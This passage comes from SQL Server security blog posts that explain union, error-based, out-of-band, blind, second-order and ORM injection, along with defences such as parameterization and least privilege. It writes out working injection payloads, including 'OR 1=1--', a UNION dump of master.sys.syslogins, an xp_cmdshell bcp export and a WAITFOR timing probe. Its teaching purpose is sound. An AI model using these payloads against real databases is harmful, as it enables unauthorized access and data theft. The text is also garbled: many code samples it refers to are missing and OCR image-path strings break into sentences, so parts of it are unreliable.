EXEC dbo.USP_GetUserFullName @Username = N'BDubs'' OR 1=1--';Let's pretend we're a nefarious hacker and want to determine what SQL Server logins are available to us on the server.  We can use a UNION-based injection attack to query sys.syslogins to get this information and return it as part of the original query:

EXEC dbo.USP_GetUserFullName @Username = N'BDubs'' UNION ALL SELECT loginname,null,null FROM master.sys.syslogins;--';


This union based attack simply concatenates the results of another query to our original row of data.

Error-Based Attacks

Let's say the UNION-based technique doesn't work or we want an alternate way of determining the currently logged in account.

Another option is to have the application reveal information about the database through error output.

We can pass in a query that we know will produce an error, in this case casting a string as an INT:

EXEC dbo.USP_GetUserFullName @Username = N'''; SELECT CAST(SYSTEM_USER AS INT);--';


Voila! If the application doesn't handle the error message correctly, it will conveniently show the system login as part of the error message.

Out-Of-Band Delivery

The first two techniques we looked at have been in-boundattacks: that is, we used the injectable query to return data to us directly.

But what if there is sufficient security preventing unexpected data from being directly returned to our app?  We have to get the data we want off of the server via other means.

This example uses xp_cmdshell to write our data to a text file, but we could have just as easily used this to send ourselves an email, etc…

EXECdbo.USP_GetUserFullName @Username = N'''; EXEC xp_cmdshell ''bcp "SELECT * FROM master.sys.syslogins" queryout "%TEMP%\pwned.txt" -c -T -q  --';


Blind Injection

A secured server may not allow us to directly output the data we want, but that doesn't mean we can't infer certain information.

Normally we pride ourselves in being able to write consistently fast queries. But our dedication to consistently fast executions provides hackers with ways of discerning information without any explicit data output.

For example, let's say we want to guess if the currently logged in account is "sa".  We can write logic to check this and purposely slow the injectable query's execution to determine we our guess is correct:

EXEC dbo.USP_GetUserFullName @Username = N'''; if (SELECT SYSTEM_USER) = ''sa'' waitfor delay ''00:00:05'';--';

If our query with an expected parameter normally returns in milliseconds, forcing a 5-second delay will indirectly inform us that our guessed "sa" account name is correct.

Protecting Yourself

The easiest way to prevent SQL injection is to avoid using dynamic SQL when it's unnecessary. In our example stored procedure above, there is no reason we should be using dynamic SQL -  this should be a parameterized query that is completely safe from injection attacks:

    @Username NVARCHAR(100)
        Username =  @UserName;

If you must use dynamic SQL, then execute your programmatically built query string with sp_executesql. This procedure will safely parameterize your inputs and prevent from injection from occurring.

Finally, make sure the accounts executing your queries have as few allowed permissions as possible.  This way, even if your query has an injection vulnerability, the amount of damage an attacker can do is minimal.  Many of the examples above would have failed if our account simply didn't have access to certain system tables or system procedures likexp_cmdshell.

These solutions will not cover every scenario, but they will cover the majority of scenarios and improve our chances of keeping our information secure.

How To Steal Data Using Second Order SQL Injection Attacks

Watch this week's video on YouTube

One misconception some people have about SQL injection is that it can only happen when concatenating a user input parameter directly into your dynamically built query string:


While this type of injection flaw is easy to spot, there are other less direct ways an injection attack can occur.Second Order SQL Injection Attacks

SQL injection attacks that delay execution until a secondary query are known as "second order".

This means a malicious user can inject a query fragment into a query(that's not necessarily vulnerable to injection), and then have that injected SQL execute in a second query that is vulnerable to SQL injection.

Let's look at an example.

Doggo Pics

Imagine a website where dog owners can share pictures of their best friends:


The internet is a great place

Now imagine that users of Doggo Pics can set a preference for what order they view pictures when they visit the website:When a user saves their sorting preference, the sort column and order get saved to a preferences table in the database:


No SQL injection vulnerabilities here

The next time the user goes to view the page, the doggo pictures will be sorted based on their saved preferences.  This works because the query pulling the pics/descriptions is dynamically sorting the data based on the user's preference:


We are dynamically sorting based on the user's preferenceViewing doggos sorted by longest tongue length

The above flow is how the website is supposed to function.  So how does a malicious user inject SQL code into these queries if the only query they directly save input into is the UpdateSortOrder procedure?

The Attack

So the developer of Doggo Pics was too busy enjoying pictures of doggos to implement any type of input validation on sort order preferences.  This means a hacker can do something like inject a SQL statement onto the end of the sort order dropdown:


The hacker modifies the "desc" value to include an INSERT statement

When our dbo.UpdateSortOrder procedure executes on the backend, it looks like this:See where this is going?  Now when our stored procedure that dynamically sorts the picture data executes, the hacker's INSERT statement is going to execute as well:


What happens next is simple: The first time our malicious user goes to view the Doggo Pics, they receive the pictures in their preferred sort order.  Additionally an INSERT INTO statement executes back on the server.

The second time the user views the Doggo Pics page, the values from that previously ran INSERT INTO statement are now visible on the screen:


So even though the first query the user encounters (saving sort order preferences) is entirely SQL injection free, our second order SQL injection attack occurs when our second SQL query dynamically executes the injected code that was stored in ouruser preferences table in the database.

How do I first and second order SQL injection attacks?

I recently presented at the GroupBy conference where I showed exactly how to protect your data from these types of attacks.

My presentation was recorded and is available for you to watch on YouTube:

You can also read more about different types of SQL injection attacks and preventative solutions by reading through my blog archives.

2.5 Ways Your ORM Is Vulnerable To SQL Injection

Someone recently told me that they don't need to worry about SQL injection because they are using an ORM.

Oh boy.

ORMs don't automaticallyprevent SQL injection

Watch this week's video on YouTube

Object-relational mapping (ORM) tools allow developers to easily access an application's data layer without having to write lots of redundant code.

Most ORMs will safely parameterize certain types of queries.  The following examples use Entity Framework and SQL Server, but these examples should apply to most other major ORMs and RDBMSs).

Our LINQ query making it easy to access our data layer:


A beautiful, clean, LINQ query

And then the SQL query that our ORM generated.


A query structure that only a mother could love

You'll notice the generated SQL query is using sp_executesql that has parameterized our input variable value "TFly37".  In this instance we can say the ORM did a good job following best practices in preventing asuccessful SQL injection attack.

But while ORMs may prevent some SQL injection attempts, there is no guarantee that they will prevent all injection attempts.

What follows are examples of when ORMs can allow for successful injection attacks.

Programatically assembled SQL

ORMs often provide the ability for developers to map the results of adhoc SQL queries to models.  Adhoc queries mean potential injection vulnerabilities.

Consider the following:


Looks a lot like your typical SQL injection vulnerability doesn't it?

Entity Framework, or any ORM for that matter, won't be able to recognize a parameter concatenated directly into the query string.

Now hopefully the developer has some really strong input validation  on the "username" parameter, but the fact still stands: this query is injectable and the ORM will happily execute it.

Stored ProceduresDoes the logic needed in your app already exist as a stored procedure?

Excellent!  Let's be DRY (don't-repeat-yourself) and call our procedure directly from our ORM:


Parameterized with the value AND datatype - give this developer a raise!

So in this example, the ORM and developer have done everything right.  So where's the injection vulnerability?


Uh oh...

Now let me be clear: this injection vulnerability is not the ORM's fault.However, it is the developer's fault if he is blindly using a procedure without knowing what it does.  It's also the DBA's fault if she provided an injectable procedure assuming the developer would sanitize any input values in the app.

Security is hard.  Everyone needs to work together and be responsible for doing everything within their means tosecure their applications.

ORM injection

Technically this isn't an example of SQL injection.

But that's why the title of this post says "2.5" instead of "3".

In this example I'm using a dynamic LINQ to access my data:


Hello concatenation my old friend

If we pass the value " OR 1 == 1 OR UserName== we will have the ORM convert it to the following query:


Game over

Injection takes many forms and doesn't just come straight from SQL.  It's important to follow best practices in all languages and tools to prevent security incidents.Want to learn more?

If you are interested in learning more about how to protect yourselffrom SQL injection, be sure to  watch my online session at GroupBy at 9amEastern on March 16th, 2018.